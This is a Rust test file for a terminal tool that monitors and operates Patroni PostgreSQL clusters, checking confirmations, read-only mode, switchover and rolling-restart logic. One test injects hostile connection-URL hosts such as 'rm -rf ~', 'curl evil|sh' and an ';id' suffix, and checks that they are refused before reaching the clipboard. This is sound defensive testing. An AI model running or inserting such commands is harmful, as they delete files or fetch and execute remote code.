//! `update` sequences: messages in, state and effects out.

use std::time::Instant;

use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers};

use super::*;
use crate::dcs::RawKv;
use dialog::Step;
use ops::{OpKind, RolloutState, RolloutStep};

use super::sample::*;

/// A key press of this character (the key tests share it), at a person's pace.
pub(super) fn key(c: char) -> Msg {
    Msg::Key(human(), KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE))
}

#[test]
fn snapshot_builds_the_cluster_and_asks_to_poll_every_member() {
    let now = Instant::now();
    let mut a = App::new(
        AppConfig::new("demo", "/service/", vec!["http://e:1".into()]),
        now,
    );
    let eff = a.update(Msg::Dcs(now, snapshot(healthy_kvs())));
    assert_eq!(
        eff,
        vec![
            Effect::PollMembers(vec![
                ("pg1".into(), "http://127.0.0.1:24011/patroni".into()),
                ("pg2".into(), "http://127.0.0.1:24012/patroni".into()),
                ("pg3".into(), "http://127.0.0.1:24013/patroni".into()),
            ]),
            // no log source configured: no followers (see app/follow/tests.rs)
        ]
    );
    assert!(a.model.loaded);
    assert!(matches!(a.model.dcs, DcsHealth::Live { revision: 42, .. }));
    let rows = a.rows();
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[0].name, "pg1");
    assert_eq!(rows[0].role, Role::Leader);
    assert_eq!(rows[0].state, "running");
    assert_eq!(rows[1].role, Role::Replica);
    assert_eq!(rows[1].state, "streaming");
    // no REST yet: lag comes from the DCS and says so
    assert!(matches!(rows[1].lag_source, members::LagSource::Dcs(_)));
    assert_eq!(rows[1].receive_lag, Some(0));
    // a second identical snapshot does not restart the pollers
    assert!(a.update(Msg::Dcs(now, snapshot(healthy_kvs()))).is_empty());
}

#[test]
fn live_lag_from_rest_beats_dcs() {
    let now = Instant::now();
    let a = healthy_live(now);
    let rows = a.rows();
    let pg3 = rows.iter().find(|r| r.name == "pg3").unwrap();
    assert_eq!(pg3.lag_source, members::LagSource::Live);
    assert_eq!(pg3.replay_lag, Some(1536 * 1024));
    assert_eq!(pg3.receive_lag, Some(768 * 1024));
    // 1.5 MiB is above maximum_lag_on_failover (1 MiB) in the captured config
    assert!(pg3.lagging);
    let pg2 = rows.iter().find(|r| r.name == "pg2").unwrap();
    assert_eq!(pg2.replay_lag, Some(0));
    assert!(!pg2.lagging);
}

#[test]
fn unreachable_member_keeps_dcs_data_and_shows_age() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    rest_err(&mut a, "pg3", "connection refused", later(now, 5));
    rest_ok(
        &mut a,
        "pg1",
        status("rest/patroni_leader.json"),
        later(now, 6),
    );
    rest_ok(&mut a, "pg2", replica_behind(0), later(now, 6));
    a.update(Msg::Tick(later(now, 7)));
    let rows = a.rows();
    let pg3 = rows.iter().find(|r| r.name == "pg3").unwrap();
    match &pg3.rest {
        members::RestHealth::Unreachable { error, last_ok } => {
            assert_eq!(error, "connection refused");
            assert_eq!(*last_ok, Some(std::time::Duration::from_secs(7)));
        }
        other => panic!("{other:?}"),
    }
    assert!(matches!(pg3.lag_source, members::LagSource::Dcs(_)));
    // the others stay live
    assert!(
        rows.iter()
            .filter(|r| r.name != "pg3")
            .all(|r| r.rest == members::RestHealth::Live)
    );
}

#[test]
fn leader_change_by_watch_events() {
    let now = Instant::now();
    let mut a = app(healthy_kvs(), now);
    a.update(Msg::Dcs(
        now,
        DcsEvent::Delete {
            key: "/service/demo/leader".into(),
        },
    ));
    assert!(a.rows().iter().all(|r| !r.role.is_leader()));
    a.update(Msg::Dcs(now, DcsEvent::Put(kv("leader", b"pg2"))));
    let rows = a.rows();
    assert_eq!(rows[0].name, "pg2", "leader sorts first");
    assert_eq!(rows[0].role, Role::Leader);
}

#[test]
fn selection_follows_the_member_when_rows_reorder() {
    let now = Instant::now();
    let mut a = app(healthy_kvs(), now);
    a.update(key('j'));
    assert_eq!(a.screen.selected.as_deref(), Some("pg2"));
    a.update(Msg::Dcs(now, DcsEvent::Put(kv("leader", b"pg2"))));
    let rows = a.rows();
    assert_eq!(rows[a.screen.selected_index(&rows)].name, "pg2");
    assert_eq!(a.screen.selected_index(&rows), 0);
}

#[test]
fn member_leaving_and_coming_back() {
    let now = Instant::now();
    let mut a = app(healthy_kvs(), now);
    let eff = a.update(Msg::Dcs(
        now,
        DcsEvent::Delete {
            key: "/service/demo/members/pg3".into(),
        },
    ));
    assert_eq!(eff.len(), 1, "poll set shrinks");
    let rows = a.rows();
    let pg3 = rows.iter().find(|r| r.name == "pg3").unwrap();
    assert!(pg3.gone.is_some());
    assert_eq!(rows.last().unwrap().name, "pg3", "gone members sort last");
    let eff = a.update(Msg::Dcs(
        now,
        DcsEvent::Put(kv("members/pg3", &pg3_replica())),
    ));
    assert_eq!(eff.len(), 1, "poll set grows");
    assert!(a.rows().iter().all(|r| r.gone.is_none()));
}

#[test]
fn garbage_member_key_is_a_warning_and_keeps_the_last_value() {
    let now = Instant::now();
    let mut a = app(healthy_kvs(), now);
    a.update(Msg::Dcs(now, DcsEvent::Put(kv("members/pg2", b"{garbage"))));
    let c = a.cluster().unwrap();
    assert!(
        c.warnings
            .get("members/pg2")
            .is_some_and(|w| w.contains("JSON"))
    );
    assert_eq!(a.rows().len(), 3);
    a.update(Msg::Dcs(
        now,
        DcsEvent::Put(kv("members/pg2", &fixture("etcd/member_replica.json"))),
    ));
    assert!(a.cluster().unwrap().warnings.is_empty());
}

#[test]
fn etcd_down_marks_stale_and_recovers() {
    let now = Instant::now();
    let mut a = app(healthy_kvs(), now);
    a.update(Msg::Dcs(
        later(now, 10),
        DcsEvent::Down {
            endpoint: "http://e:1".into(),
            error: "etcd unavailable\x1b[2J".into(),
        },
    ));
    a.update(Msg::Tick(later(now, 25)));
    assert_eq!(
        a.model.stale_for(),
        Some(std::time::Duration::from_secs(15))
    );
    assert_eq!(a.rows().len(), 3, "last state is kept");
    match &a.model.dcs {
        DcsHealth::Down { error, .. } => assert!(!error.contains('\x1b'), "sanitized"),
        other => panic!("{other:?}"),
    }
    a.update(Msg::Dcs(later(now, 26), snapshot(healthy_kvs())));
    assert_eq!(a.model.stale_for(), None);
}

#[test]
fn snapshot_after_reconnect_reports_members_that_left_meanwhile() {
    let now = Instant::now();
    let mut a = app(healthy_kvs(), now);
    let without_pg3: Vec<RawKv> = healthy_kvs()
        .into_iter()
        .filter(|k| !k.key.ends_with("pg3"))
        .collect();
    a.update(Msg::Dcs(now, snapshot(without_pg3)));
    let rows = a.rows();
    assert!(
        rows.iter()
            .find(|r| r.name == "pg3")
            .is_some_and(|r| r.gone.is_some())
    );
}

#[test]
fn rest_reply_for_unknown_member_is_ignored() {
    let now = Instant::now();
    let mut a = app(healthy_kvs(), now);
    a.dirty = false;
    rest_ok(&mut a, "intruder", status("rest/patroni_leader.json"), now);
    assert!(!a.dirty);
    assert!(!a.cluster().unwrap().rest.contains_key("intruder"));
}

#[test]
fn idle_cluster_does_not_redraw_on_ticks_or_identical_replies() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    let mut leader = status("rest/patroni_leader.json");
    leader.xlog.location = Some(67108864 + 5 * 1024 * 1024);
    let idle_second = |a: &mut App, s: u64| {
        // what an idle cluster sends: the same answers, once a second, and etcd's progress
        rest_ok(a, "pg1", leader.clone(), later(now, s));
        rest_ok(a, "pg2", replica_behind(0), later(now, s));
        rest_ok(a, "pg3", replica_behind(1536 * 1024), later(now, s));
        a.update(Msg::Dcs(later(now, s), DcsEvent::Progress { revision: 42 }));
        let answers_drew = a.dirty;
        // the header's sign of life moved: the tick draws it (one frame a second) ...
        a.update(Msg::Tick(later(now, s)));
        assert!(a.dirty, "second {s}: the sign of life moved");
        a.drawn(false);
        // ... and nothing else in that second draws again
        a.update(Msg::Tick(
            later(now, s) + std::time::Duration::from_millis(500),
        ));
        answers_drew
    };

    // healthy_live gave the trend its first bar: the same lag within the bar changes nothing
    a.dirty = false;
    for s in 1..15 {
        idle_second(&mut a, s);
        assert!(
            !a.dirty,
            "no age on screen, trend full and flat: a tick changes nothing"
        );
    }
    assert!(
        !a.dirty,
        "no age on screen, trend flat within its bar: ticks change nothing"
    );
    rest_ok(&mut a, "pg2", replica_behind(0), later(now, 15));
    assert!(!a.dirty, "same answer again: nothing to draw");
    let mut moved = replica_behind(0);
    moved.dcs_last_seen = Some(1_795_650_999);
    rest_ok(&mut a, "pg2", moved.clone(), later(now, 15));
    assert!(!a.dirty, "dcs_last_seen moving is not shown in the table");
    a.screen.open(View::Detail("pg2".into()));
    moved.dcs_last_seen = Some(1_795_651_000);
    rest_ok(&mut a, "pg2", moved, later(now, 15));
    assert!(a.dirty, "but it is in pg2's detail view");
    a.screen.open(View::Main);
    a.dirty = false;
    rest_ok(&mut a, "pg2", replica_behind(4096), later(now, 16));
    assert!(a.dirty, "new position: draw");
}

#[test]
fn keys_move_selection_and_quit() {
    let now = Instant::now();
    let mut a = app(healthy_kvs(), now);
    a.update(key('j'));
    a.update(key('j'));
    a.update(key('j'));
    assert_eq!(
        a.screen.selected.as_deref(),
        Some("pg3"),
        "clamped to the last row"
    );
    a.update(key('k'));
    assert_eq!(a.screen.selected.as_deref(), Some("pg2"));
    a.update(key('g'));
    assert_eq!(a.screen.selected.as_deref(), Some("pg1"));
    a.update(key('?'));
    assert!(a.screen.show_help);
    a.update(Msg::Key(
        human(),
        KeyEvent::new(KeyCode::Esc, KeyModifiers::NONE),
    ));
    assert!(!a.screen.show_help);
    assert!(a.quit.is_none());
    a.update(key('q'));
    assert!(a.quit.is_some());
}

#[test]
fn paused_and_scheduled_switchover_are_in_the_model() {
    let now = Instant::now();
    // captured: pg2 leads, a switchover pg2 -> pg1 scheduled, then paused
    let a = app(state("paused").kvs, now);
    assert_consistent(&a);
    let c = a.cluster().unwrap();
    assert!(c.is_paused());
    assert_eq!(
        c.failover.as_ref().and_then(|f| f.member.as_deref()),
        Some("pg1")
    );
}

#[test]
fn sync_standby_role_in_synchronous_mode() {
    let now = Instant::now();
    let mut kvs = healthy_kvs();
    kvs.push(kv("config", br#"{"synchronous_mode": true}"#));
    kvs.push(kv("sync", br#"{"leader":"pg1","sync_standby":"pg3"}"#));
    let a = app(kvs, now);
    let rows = a.rows();
    assert_eq!(
        rows.iter().find(|r| r.name == "pg3").unwrap().role,
        Role::SyncStandby
    );
    assert_eq!(
        rows.iter().find(|r| r.name == "pg2").unwrap().role,
        Role::Replica
    );
}

// ---------------------------------------------------------------- operations

pub(super) fn press(a: &mut App, code: KeyCode) -> Vec<Effect> {
    a.update(Msg::Key(human(), KeyEvent::new(code, KeyModifiers::NONE)))
}

/// The requests these effects send.
pub(super) fn sends(eff: &[Effect]) -> Vec<&ops::Request> {
    eff.iter()
        .filter_map(|e| match e {
            Effect::Send { request, .. } => Some(request),
            _ => None,
        })
        .collect()
}

#[test]
fn nothing_is_sent_without_a_confirmation() {
    let now = Instant::now();
    for k in ['s', 'f', 'r', 'L', 'I', 'p'] {
        let mut a = healthy_live(now);
        a.update(key('j')); // a replica selected
        let mut eff = a.update(key(k));
        assert!(a.session.dialog.is_some(), "{k} opens a dialog");
        for code in [
            KeyCode::Down,
            KeyCode::Up,
            KeyCode::Char('j'),
            KeyCode::Char('t'),
            KeyCode::Esc,
        ] {
            eff.extend(press(&mut a, code));
        }
        eff.extend(press(&mut a, KeyCode::Esc));
        eff.extend(press(&mut a, KeyCode::Esc));
        assert!(
            sends(&eff).is_empty(),
            "{k}: no request without confirmation"
        );
        assert!(a.session.dialog.is_none(), "{k}: esc closes");
        assert!(a.session.ops.is_empty());
    }
}

/// A `conn_url` host with a newline, ESC, BEL or an end-of-paste sequence never reaches the
/// clipboard: every connection string holding that member's host is refused with a notice
/// (and the writer would refuse its bytes too); the others copy exactly as before.
#[test]
fn a_hostile_conn_url_host_is_never_copied() {
    let now = Instant::now();
    for host in [
        "10.0.0.2\nrm -rf ~",
        "10.0.0.2\u{1b}[201~\ncurl evil|sh\n",
        "10.0.0.2\u{7}",
        "evil.example;id",
    ] {
        let mut a = healthy_live(now);
        let mut member: serde_json::Value =
            serde_json::from_slice(&fixture("etcd/member_replica.json")).unwrap();
        member["conn_url"] = format!("postgres://{host}:24022/postgres").into();
        a.update(Msg::Dcs(
            now,
            DcsEvent::Put(kv("members/pg2", member.to_string().as_bytes())),
        ));
        a.update(key('d'));
        let all = a.model.connection_strings();
        let mut copied = Vec::new();
        for (i, c) in all.iter().enumerate() {
            a.screen.replace_top(View::Dsn(i));
            let eff = a.update(key('y'));
            let flash = format!("{:?}", a.screen.flash);
            if c.text.contains("10.0.0.2") || c.text.contains("evil") {
                assert!(eff.is_empty(), "{host:?}: {c:?} refused: {eff:?}");
                assert!(c.refused.is_some(), "{c:?}");
                assert!(flash.contains("not copied"), "{flash}");
                assert!(flash.contains("pg2's conn_url"), "{flash}");
            } else {
                let [Effect::Copy(t)] = eff.as_slice() else {
                    panic!("{host:?}: {c:?} copied: {eff:?}")
                };
                assert_eq!(t, &c.text);
                copied.push(t.clone());
            }
        }
        assert_eq!(
            copied,
            [
                "host=127.0.0.1 port=24021",
                "host=127.0.0.1 port=24021",
                "host=127.0.0.1 port=24023"
            ],
            "{host:?}: the leader's, and pg1's and pg3's own"
        );
        for t in &copied {
            assert!(crate::clip::osc52(t).is_ok(), "{t}");
        }
    }
    // a clean cluster: every string copies, the multi-host ones as before
    let mut a = healthy_live(now);
    a.update(key('d'));
    let all = a.model.connection_strings();
    assert!(all.iter().all(|c| c.refused.is_none()), "{all:?}");
    assert_eq!(
        all[1].text,
        "postgresql://127.0.0.1:24021,127.0.0.1:24022,127.0.0.1:24023/postgres?target_session_attrs=read-write"
    );
}

/// A member whose api_url carries a path, a query, a fragment or userinfo gets no write:
/// the reload's pre-flight check says why and `y` sends nothing; a clean api_url gets
/// exactly `POST {scheme://host:port}/reload`.
#[test]
fn an_api_url_with_more_than_scheme_host_and_port_refuses_the_members_writes() {
    let now = Instant::now();
    for bad in [
        "http://127.0.0.1:24012/restart#",
        "http://127.0.0.1:24012/patroni?x=1",
        "http://127.0.0.1:24012/patroni#",
        "http://u:p@127.0.0.1:24012/patroni",
        "ftp://127.0.0.1:24012/patroni",
    ] {
        let mut a = healthy_live(now);
        let member = String::from_utf8_lossy(&fixture("etcd/member_replica.json"))
            .replace("http://127.0.0.1:24012/patroni", bad);
        a.update(Msg::Dcs(
            now,
            DcsEvent::Put(kv("members/pg2", member.as_bytes())),
        ));
        a.update(key('j'));
        a.update(key('L'));
        let plan = a
            .model
            .plan(a.session.dialog.as_ref().expect("the reload dialog"));
        assert!(
            plan.checks
                .iter()
                .any(|c| c.level == checks::Level::Fail && c.text.contains("pg2's api_url")),
            "{bad}: {:?}",
            plan.checks
        );
        let eff = a.update(key('y'));
        assert!(sends(&eff).is_empty(), "{bad}: nothing sent: {eff:?}");
        assert!(a.session.ops.is_empty(), "{bad}");
    }
    let mut a = healthy_live(now);
    a.update(key('j'));
    a.update(key('L'));
    let eff = a.update(key('y'));
    let sent = sends(&eff);
    assert_eq!(sent.len(), 1, "{eff:?}");
    assert_eq!(sent[0].method_label(), "POST");
    assert_eq!(sent[0].url(), "http://127.0.0.1:24012/reload");
}

#[test]
fn switchover_enter_y_sends_exactly_the_request_shown() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    assert!(sends(&a.update(key('s'))).is_empty());
    assert!(
        sends(&press(&mut a, KeyCode::Enter)).is_empty(),
        "enter only reviews"
    );
    let shown = a
        .session
        .dialog
        .as_ref()
        .and_then(|d| d.shown.clone())
        .expect("request shown");
    assert_eq!(
        shown.display(),
        r#"POST http://127.0.0.1:24011/switchover {"leader":"pg1","candidate":"pg2"}"#
    );
    let eff = a.update(key('y'));
    let s = sends(&eff);
    assert_eq!(s, vec![&shown], "exactly what was shown, once");
    assert!(a.session.dialog.is_none());
    assert_eq!(a.session.ops.len(), 1);
    assert_eq!(a.session.ops[0].title, "switchover pg1 → pg2");
}

#[test]
fn confirm_rechecks_the_state_and_sends_nothing_if_it_changed() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.update(key('s'));
    press(&mut a, KeyCode::Enter);
    // meanwhile pg2 took over on its own, in the same batch as the key: no frame showed it
    a.update(Msg::Dcs(now, DcsEvent::Put(kv("leader", b"pg2"))));
    let eff = a.update(key('y'));
    assert!(sends(&eff).is_empty());
    let d = a.session.dialog.as_ref().expect("dialog stays open");
    // refused on what is now on screen, not on grounds nobody saw
    assert!(
        d.notice
            .as_deref()
            .is_some_and(|n| n.starts_with("the checks changed: read them")),
        "{:?}",
        d.notice
    );
    let shown = a.judgement.plan.as_ref().expect("the plan shown");
    assert!(
        (shown.checks.iter()).any(|c| c.text == "pg2 is no longer a candidate: pick another"),
        "{shown:?}"
    );
    // the next deliberate press is refused by the check on screen
    let eff = a.update(key('y'));
    assert!(sends(&eff).is_empty());
    let d = a.session.dialog.as_ref().expect("dialog stays open");
    assert!(
        d.notice
            .as_deref()
            .is_some_and(|n| n.contains("not sent: pg2 is no longer a candidate")),
        "{:?}",
        d.notice
    );
    assert!(a.session.ops.is_empty());
}

#[test]
fn stale_etcd_blocks_every_write() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.update(Msg::Dcs(
        now,
        DcsEvent::Down {
            endpoint: "e".into(),
            error: "down".into(),
        },
    ));
    a.update(key('p'));
    let eff = a.update(key('y'));
    assert!(sends(&eff).is_empty());
    let n = a
        .session
        .dialog
        .as_ref()
        .and_then(|d| d.notice.clone())
        .unwrap_or_default();
    assert!(n.contains("etcd unreachable"), "{n}");
}

#[test]
fn failover_needs_the_cluster_name_typed() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.update(key('f'));
    press(&mut a, KeyCode::Enter);
    assert!(
        sends(&a.update(key('y'))).is_empty(),
        "y is just a letter of the name here"
    );
    for _ in 0..1 {
        press(&mut a, KeyCode::Backspace);
    }
    assert!(
        sends(&press(&mut a, KeyCode::Enter)).is_empty(),
        "empty name"
    );
    for c in "demo".chars() {
        a.update(key(c));
    }
    let eff = press(&mut a, KeyCode::Enter);
    let s = sends(&eff);
    assert_eq!(s.len(), 1);
    assert_eq!(s[0].path(), "/failover");
    assert_eq!(s[0].body, Some(serde_json::json!({"candidate": "pg2"})));
}

#[test]
fn reinit_needs_the_member_name_and_refuses_the_leader() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    // the leader is selected first
    a.update(key('I'));
    press(&mut a, KeyCode::Enter);
    for c in "pg1".chars() {
        a.update(key(c));
    }
    assert!(
        sends(&press(&mut a, KeyCode::Enter)).is_empty(),
        "leader cannot be reinitialized"
    );
    press(&mut a, KeyCode::Esc);
    press(&mut a, KeyCode::Esc);
    a.update(key('G'));
    a.update(key('I'));
    a.update(key('f'));
    press(&mut a, KeyCode::Enter);
    for c in "pg3".chars() {
        a.update(key(c));
    }
    let eff = press(&mut a, KeyCode::Enter);
    let s = sends(&eff);
    assert_eq!(s.len(), 1);
    assert_eq!(s[0].member, "pg3");
    assert_eq!(
        s[0].body,
        Some(serde_json::json!({"force": true, "from_leader": false}))
    );
}

#[test]
fn restart_options_shape_the_body() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.update(key('j'));
    a.update(key('r'));
    a.update(key('p'));
    a.update(key('t'));
    for c in "2030-01-01T03:00+00:00".chars() {
        a.update(key(c));
    }
    press(&mut a, KeyCode::Enter); // ends editing
    a.update(key('v'));
    for c in "16.1".chars() {
        a.update(key(c));
    }
    press(&mut a, KeyCode::Enter);
    press(&mut a, KeyCode::Enter); // review
    let eff = a.update(key('y'));
    let s = sends(&eff);
    assert_eq!(s.len(), 1);
    assert_eq!(s[0].member, "pg2");
    assert_eq!(
        s[0].body,
        Some(
            serde_json::json!({"restart_pending": true, "schedule": "2030-01-01T03:00:00+00:00", "postgres_version": "16.1"})
        )
    );
}

#[test]
fn a_bad_schedule_is_refused_before_sending() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.update(key('s'));
    a.update(key('t'));
    for c in "tomorrow".chars() {
        a.update(key(c));
    }
    press(&mut a, KeyCode::Enter);
    press(&mut a, KeyCode::Enter);
    assert!(sends(&a.update(key('y'))).is_empty());
}

#[test]
fn read_only_refuses_every_mutating_action() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.read_only = true;
    for k in ['s', 'f', 'r', 'R', 'L', 'I', 'p', 'x'] {
        let eff = a.update(key(k));
        assert!(
            a.session.dialog.is_none(),
            "{k} opens nothing in read-only mode"
        );
        assert!(sends(&eff).is_empty());
        assert!(
            a.screen
                .flash
                .as_ref()
                .is_some_and(|(m, _)| m.contains("read-only")),
            "{k}: {:?}",
            a.screen.flash
        );
        a.screen.flash = None;
    }
    assert!(a.help_rows().iter().all(|(_, d)| !d.contains("switchover")));
    assert!(a.hints().iter().all(|(_, w)| *w != "switchover"));
    // even a dialog that was somehow open cannot send
    a.session.dialog = Some(dialog::Dialog::new(OpKind::Reload, Some("pg2".into())));
    assert!(sends(&a.update(key('y'))).is_empty());
}

#[test]
fn pause_toggles_to_resume_and_flush_needs_something_scheduled() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.update(key('x'));
    assert!(a.session.dialog.is_none());
    assert!(
        a.screen
            .flash
            .as_ref()
            .is_some_and(|(m, _)| m.contains("nothing to flush"))
    );
    a.update(key('p'));
    let shown = a
        .session
        .dialog
        .as_ref()
        .and_then(|d| d.shown.clone())
        .expect("pause request");
    assert_eq!(
        shown.display(),
        r#"PATCH http://127.0.0.1:24011/config {"pause":true}"#
    );
    press(&mut a, KeyCode::Esc);
    a.update(Msg::Dcs(
        now,
        DcsEvent::Put(kv("config", &fixture("etcd/config_paused.json"))),
    ));
    // a switchover scheduled away from this cluster's leader, pg1 (failover_scheduled.json
    // was captured while pg2 led)
    a.update(Msg::Dcs(
        now,
        DcsEvent::Put(kv(
            "failover",
            br#"{"leader":"pg1","member":"pg2","scheduled_at":"2026-11-26T01:53:00+00:00"}"#,
        )),
    ));
    assert_consistent(&a);
    a.update(key('p'));
    assert_eq!(
        a.session.dialog.as_ref().map(|d| d.kind),
        Some(OpKind::Resume)
    );
    press(&mut a, KeyCode::Esc);
    a.update(key('x'));
    assert_eq!(
        a.session.dialog.as_ref().map(|d| d.kind),
        Some(OpKind::FlushSwitchover)
    );
}

#[test]
fn candidates_say_why_not() {
    let now = Instant::now();
    let mut kvs = healthy_kvs();
    let tagged = String::from_utf8_lossy(&pg3_replica()).replace(
        "\"timeline\":1",
        "\"timeline\":1,\"tags\":{\"nofailover\":true}",
    );
    kvs.push(kv("members/pg3", tagged.as_bytes()));
    let mut a = app(kvs, now);
    let mut leader = status("rest/patroni_leader.json");
    leader.xlog.location = Some(67108864 + 5 * 1024 * 1024);
    rest_ok(&mut a, "pg1", leader, now);
    rest_ok(&mut a, "pg2", replica_behind(4 * 1024 * 1024), now);
    rest_err(&mut a, "pg3", "refused", now);
    let c = checks::candidates(a.cluster().unwrap(), now, a.model.rest_interval);
    let pg2 = c.iter().find(|c| c.name == "pg2").unwrap();
    assert!(
        pg2.reasons
            .iter()
            .any(|r| r.contains("maximum_lag_on_failover")),
        "{pg2:?}"
    );
    let pg3 = c.iter().find(|c| c.name == "pg3").unwrap();
    assert!(pg3.reasons.iter().any(|r| r == "nofailover tag"), "{pg3:?}");
    assert!(pg3.reasons.iter().any(|r| r.contains("REST")), "{pg3:?}");

    // synchronous mode: only the sync standby is eligible
    let mut kvs = healthy_kvs();
    kvs.push(kv("config", br#"{"synchronous_mode": true}"#));
    kvs.push(kv("sync", br#"{"leader":"pg1","sync_standby":"pg3"}"#));
    let mut a = app(kvs, now);
    rest_ok(&mut a, "pg2", replica_behind(0), now);
    rest_ok(&mut a, "pg3", replica_behind(0), now);
    let mut leader = status("rest/patroni_leader.json");
    leader.xlog.location = Some(67108864 + 5 * 1024 * 1024);
    rest_ok(&mut a, "pg1", leader, now);
    let c = checks::candidates(a.cluster().unwrap(), now, a.model.rest_interval);
    assert_eq!(c[0].name, "pg3", "eligible first");
    assert!(c[0].eligible());
    assert!(c[1].reasons.iter().any(|r| r.contains("/sync")));
}

#[test]
fn operations_settle_from_replies_and_the_dcs() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.update(key('s'));
    press(&mut a, KeyCode::Enter);
    let Effect::Send { op, .. } = a.update(key('y')).remove(0) else {
        panic!()
    };
    assert_eq!(a.session.ops[0].settle, ops::Settle::Sending);
    a.update(Msg::OpReply {
        op,
        at: now,
        reply: ops::Reply::Status {
            code: 200,
            body: "Successfully switched over to \"pg2\"".into(),
        },
    });
    assert_eq!(
        a.session.ops[0].settle,
        ops::Settle::Watching,
        "accepted, but the DCS has the last word"
    );
    let mut eff = a.update(Msg::Dcs(now, DcsEvent::Put(kv("leader", b"pg2"))));
    let mut s2 = status("rest/patroni_leader_after_switchover.json");
    s2.patroni.name = Some("pg2".into());
    eff.extend(a.update(Msg::Rest {
        member: "pg2".into(),
        at: later(now, 1),
        result: Ok(Box::new(s2)),
    }));
    let mut s1 = status("rest/patroni_replica_after_switchover.json");
    s1.replication_state = Some("streaming".into());
    eff.extend(a.update(Msg::Rest {
        member: "pg1".into(),
        at: later(now, 1),
        result: Ok(Box::new(s1)),
    }));
    eff.extend(a.update(Msg::Tick(later(now, 1))));
    assert!(
        matches!(&a.session.ops[0].settle, ops::Settle::Done(s) if s.contains("pg2 leads on timeline 2")),
        "{:?}",
        a.session.ops[0].settle
    );
    let audit: Vec<_> = eff
        .iter()
        .filter(|e| matches!(e, Effect::Audit(_)))
        .collect();
    assert_eq!(audit.len(), 1, "one audit line when it finishes");
    let line = format!("{audit:?}");
    assert!(
        line.contains("switchover") && line.contains("done"),
        "{line}"
    );
    // (whether a password reaches the audit log is tested where one exists: tests/secrets.rs)
}

#[test]
fn refusals_fail_and_unknown_results_time_out() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.update(key('s'));
    press(&mut a, KeyCode::Enter);
    let Effect::Send { op, .. } = a.update(key('y')).remove(0) else {
        panic!()
    };
    a.update(Msg::OpReply {
        op,
        at: now,
        reply: ops::Reply::Status {
            code: 412,
            body: "candidate name does not match with sync_standby".into(),
        },
    });
    assert!(
        matches!(&a.session.ops[0].settle, ops::Settle::Failed(m) if m.contains("HTTP 412: candidate name"))
    );

    a.update(key('p'));
    let Effect::Send { op, .. } = a.update(key('y')).remove(0) else {
        panic!()
    };
    a.update(Msg::OpReply {
        op,
        at: now,
        reply: ops::Reply::Unknown("timed out after 60s".into()),
    });
    assert_eq!(
        a.session.ops[1].settle,
        ops::Settle::Watching,
        "unknown is not failed: keep watching"
    );
    a.update(Msg::Tick(later(now, 200)));
    // (the failed one left the panel long ago: the event log has it)
    let o = a
        .session
        .ops
        .iter()
        .find(|o| o.id == op)
        .expect("still shown");
    assert!(matches!(&o.settle, ops::Settle::TimedOut(m) if m.contains("result unknown")));
    assert!(
        a.model
            .events
            .iter()
            .any(|e| e.kind.text().contains("HTTP 412: candidate name"))
    );
}

fn pending(mut s: crate::patroni::PatroniStatus, started: &str) -> crate::patroni::PatroniStatus {
    s.pending_restart = true;
    s.postmaster_start_time = Some(started.into());
    s
}

#[test]
fn rolling_restart_goes_replica_by_replica_then_the_leader_and_stops_at_a_failure() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.update(key('R'));
    assert!(
        a.session.dialog.is_none(),
        "nothing pending: nothing to roll"
    );
    let mut leader = status("rest/patroni_leader.json");
    leader.xlog.location = Some(67108864 + 5 * 1024 * 1024);
    rest_ok(&mut a, "pg1", pending(leader, "t0"), now);
    rest_ok(&mut a, "pg2", pending(replica_behind(0), "t0"), now);
    rest_ok(&mut a, "pg3", pending(replica_behind(0), "t0"), now);
    a.update(key('R'));
    let p = a.model.plan(a.session.dialog.as_ref().unwrap());
    assert_eq!(
        p.steps,
        vec![
            RolloutStep::Restart("pg2".into()),
            RolloutStep::Restart("pg3".into()),
            RolloutStep::SwitchoverFrom("pg1".into()),
            RolloutStep::Restart("pg1".into()),
        ]
    );
    press(&mut a, KeyCode::Enter);
    let eff = a.update(key('y'));
    let s = sends(&eff);
    assert_eq!(
        s.len(),
        1,
        "one step at a time: {:?} {:?}",
        a.session.dialog,
        a.screen.flash
    );
    assert_eq!((s[0].member.as_str(), s[0].path()), ("pg2", "/restart"));
    assert_eq!(
        s[0].body,
        Some(serde_json::json!({"restart_pending": true}))
    );
    let Effect::Send { op, .. } = eff[0].clone() else {
        panic!()
    };
    // pg2 restarts and streams again: the next step goes out
    a.update(Msg::OpReply {
        op,
        at: now,
        reply: ops::Reply::Status {
            code: 200,
            body: "restarted successfully".into(),
        },
    });
    let mut back = replica_behind(0);
    back.postmaster_start_time = Some("t1".into());
    let eff = a.update(Msg::Rest {
        member: "pg2".into(),
        at: later(now, 1),
        result: Ok(Box::new(back)),
    });
    let s = sends(&eff);
    assert_eq!(s.len(), 1, "{:?}", a.session.rollout);
    assert_eq!(s[0].member, "pg3");
    let Effect::Send { op, .. } = eff
        .iter()
        .find(|e| matches!(e, Effect::Send { .. }))
        .unwrap()
        .clone()
    else {
        panic!()
    };
    // pg3 fails: the rollout stops, nothing more is sent
    let eff = a.update(Msg::OpReply {
        op,
        at: now,
        reply: ops::Reply::Status {
            code: 503,
            body: "restart failed".into(),
        },
    });
    assert!(sends(&eff).is_empty());
    // within the panel's linger: the failed rollout is still shown
    let eff = a.update(Msg::Tick(later(now, 20)));
    assert!(sends(&eff).is_empty());
    match &a.session.rollout.as_ref().unwrap().state {
        RolloutState::Failed(why) => assert!(why.contains("step 2"), "{why}"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn leader_api_down_offers_the_dcs_fallback_with_its_own_typed_confirmation() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    rest_err(&mut a, "pg1", "timed out after 2s", later(now, 1));
